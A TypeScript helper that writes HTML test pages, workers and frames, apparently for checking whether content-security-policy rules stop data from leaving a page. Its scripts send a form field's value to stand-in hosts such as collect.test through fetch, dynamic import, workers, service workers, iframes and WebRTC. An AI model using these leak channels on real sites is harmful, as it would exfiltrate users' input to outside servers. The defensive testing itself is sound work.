import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from './page.js'

/** What every page can say, in the page's own language. */
const words = `
const S = 'http://collect.test', T = 'https://secure.collect.test', W = 'ws://socket.test:9001/ws'
const U = '192.0.2.7:9002', H = 'leak.test'
const E = (tag, attributes = {}, parent = document.body) => {
  const one = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value)
  parent.append(one)
  return one
}
const blobUrl = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], { type }))
const later = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))
const peer = (server) => {
  const one = new RTCPeerConnection({ iceServers: [server] })
  globalThis.kept = one
  one.createDataChannel('d')
  return one.createOffer().then((offer) => one.setLocalDescription(offer))
}`

const files: Readonly<Record<string, string>> = {
  'worker.js': `onmessage = ({ data }) => fetch('http://collect.test/worker?' + data, { mode: 'no-cors' })`,
  'module-worker.js': `onmessage = ({ data }) => import('http://collect.test/module.js?' + data).catch(() => {})`,
  'shared.js': `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('http://collect.test/shared?' + data, { mode: 'no-cors' }) }`,
  'service.js': `onactivate = (event) => event.waitUntil(clients.claim())
onmessage = ({ data }) => fetch('http://collect.test/service', { method: 'POST', mode: 'no-cors', body: data })`,
  'blank.html': '<!doctype html>',
  'relay.html': `<!doctype html><script>onmessage = ({ data }) => fetch('http://collect.test/relay?' + data, { mode: 'no-cors' })</script>`,
  'teller.html': `<!doctype html><script>onmessage = ({ data }) => parent.postMessage({ told: data }, '*')</script>`,
  'porter.html': `<!doctype html><script>onmessage = ({ data, ports: [port] }) => port.postMessage({ told: data })</script>`,
}

/**
 * Writes a folder with every page as `ID.html`, each with a field and a button, and the scripts that they load.
 * Worker scripts and frames lie beside them.
 */
export function writePages(folder: string, pages: readonly Page[]): void {
  mkdirSync(folder, { recursive: true })
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text)
  for (const page of pages) writeFileSync(join(folder, `${page.id}.html`), htmlOf(page))
  const rules = pages.flatMap(({ id, csp }) =>
    csp === undefined ? [] : [`/${id}.html`, `  content-security-policy: ${csp}`],
  )
  writeFileSync(join(folder, '_headers'), rules.join('\n'))
}

function htmlOf({ id, code, head = '' }: Page): string {
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${id}</title>${head}</head><body>
<label>Name <input id="field"></label><button id="send" type="button">Go on</button>
<script>${words}
document.getElementById('send').onclick = async () => {
  const v = document.getElementById('field').value;
  ${code}
}</script></body></html>`
}
